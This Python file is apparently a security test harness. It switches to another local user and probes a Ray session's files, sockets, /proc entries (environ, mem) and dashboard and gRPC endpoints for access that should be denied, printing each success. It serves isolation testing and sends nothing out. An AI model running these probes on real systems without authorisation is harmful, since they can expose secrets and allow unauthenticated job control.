"""A program that becomes another user of the machine and then attacks a Ray session.

It reads what to try (paths, processes, ports) from stdin, and prints what succeeded.
"""

from __future__ import annotations

import json
import os
import pkgutil
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import suppress
from importlib import import_module
from pathlib import Path
from typing import Any

import grpc
from ray.core import generated

PAGES = [
    *("/", "/api/version", "/nodes", "/api/jobs/", "/api/cluster_status", "/api/v0/actors"),
    *("/api/v0/logs", "/logs", "/log_proxy", "/worker/traceback", "/memory", "/events", "/metrics"),
    *("/api/prometheus/sd", "/api/healthz", "/api/local_raylet_healthz", "/api/gcs_healthz"),
]
POSTS = [
    "/api/jobs/",
    "/api/job_agent/jobs/",
    "/get_or_create_runtime_env",
    "/api/packages/x/y.zip",
]
PROCESS = ["environ", "mem", "maps", "cwd", "root", "exe", "fd", "map_files", "syscall"]


def become(uid: int) -> None:
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)


def read(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read(1)


def achieved(what: str, attempt: Callable[[], object]) -> Iterator[str]:
    """Yields a line if an attempt succeeds."""
    try:
        attempt()
    except OSError:
        return
    yield what


def on_path(path: str, reading: bool) -> Iterator[str]:
    """Tries reading, writing, replacing and connecting."""
    beside = f"{path}.stranger"

    def create(name: str) -> None:
        with open(os.path.join(path, name), "x"):
            pass

    def connect(kind: socket.SocketKind) -> None:
        with socket.socket(socket.AF_UNIX, kind) as one:
            one.settimeout(5)
            one.connect(path.replace("@", "\0", 1) if path.startswith("@") else path)

    if reading:
        yield from achieved(f"list {path}", lambda: os.listdir(path))
        yield from achieved(f"read {path}", lambda: read(path))
    yield from achieved(f"write {path}", lambda: os.close(os.open(path, os.O_WRONLY)))
    yield from achieved(f"append {path}", lambda: os.close(os.open(path, os.O_RDWR | os.O_APPEND)))
    yield from achieved(f"create in {path}", lambda: create("stranger"))
    yield from achieved(f"link in {path}", lambda: os.symlink("/", f"{path}/stranger.link"))
    yield from achieved(f"chmod {path}", lambda: os.chmod(path, 0o777))
    yield from achieved(f"touch {path}", lambda: os.utime(path))
    yield from achieved(f"rename {path}", lambda: os.rename(path, beside))
    yield from achieved(f"replace {path}", lambda: os.rename("/tmp/stranger.file", path))
    yield from achieved(f"remove {path}", lambda: os.unlink(path))
    yield from achieved(f"remove folder {path}", lambda: os.rmdir(path))
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        yield from achieved(f"connect {path}", lambda kind=kind: connect(kind))


def on_process(pid: int) -> Iterator[str]:
    for name in PROCESS:
        file = f"/proc/{pid}/{name}"
        yield from achieved(f"look at {file}", lambda file=file: os.readlink(file))
        yield from achieved(f"list {file}", lambda file=file: os.listdir(file))
        yield from achieved(f"read {file}", lambda file=file: read(file))
    yield from achieved(f"signal {pid}", lambda: os.kill(pid, 0))


def methods() -> list[str]:
    """All methods of Ray's processes that can be called over gRPC."""
    found = set()
    for module in pkgutil.iter_modules(generated.__path__):
        if not module.name.endswith("_pb2"):
            continue
        with suppress(ImportError):
            described = import_module(f"ray.core.generated.{module.name}").DESCRIPTOR
            for service in described.services_by_name.values():
                found |= {f"/{service.full_name}/{method.name}" for method in service.methods}
    return sorted(found)


def on_port(port: int, asked: list[str], shown: str | None) -> Iterator[str]:
    """Tries pages and calls, without a token or with a wrong one."""
    headers = {"Authorization": f"Bearer {shown}"} if shown else {}
    for page, body in [*((page, None) for page in PAGES), *((page, b"{}") for page in POSTS)]:
        request = urllib.request.Request(f"http://127.0.0.1:{port}{page}", body, headers)
        try:
            with urllib.request.urlopen(request, timeout=5) as answer:
                said = answer.read(100_000)
                yield f"{'ask' if body is None else 'post'} {port}{page} {len(said)}"
        except urllib.error.HTTPError as error:
            if error.code not in (401, 403, 404, 405):
                yield f"status {error.code} {port}{page}"
        except (OSError, ValueError):
            break
        except Exception:  # it uses another protocol
            break
    else:
        return
    metadata = [("authorization", f"Bearer {shown}")] if shown else []
    refused = 0
    with grpc.insecure_channel(f"127.0.0.1:{port}", [("grpc.enable_http_proxy", 0)]) as channel:
        for method in asked:
            try:
                said = channel.unary_unary(method)(b"", timeout=5, metadata=metadata)
                yield f"call {port}{method} {len(said)}"
            except grpc.RpcError as error:
                if error.code() == grpc.StatusCode.UNAVAILABLE:
                    break  # it uses another protocol
                if error.code() == grpc.StatusCode.UNAUTHENTICATED:
                    refused += 1
                elif error.code() != grpc.StatusCode.UNIMPLEMENTED:
                    yield f"call {port}{method} {error.code().name}"
    yield f"refused {port} {refused}"


def attack(asked: dict[str, Any]) -> Iterator[str]:
    Path("/tmp/stranger.file").touch()
    try:
        for path in asked["paths"]:
            yield from on_path(path, reading=True)
        for path in asked["results"]:
            yield from on_path(path, reading=False)
    finally:
        Path("/tmp/stranger.file").unlink(missing_ok=True)  # an owner has moved it
    for pid in asked["processes"]:
        yield from on_process(pid)
    calls = asked["calls"] or methods()
    for port in asked["ports"]:
        for shown in asked["tokens"]:
            yield from on_port(port, calls, shown)


if __name__ == "__main__":
    given = json.load(sys.stdin)
    become(given["uid"])
    for line in attack(given):
        print(line, flush=True)
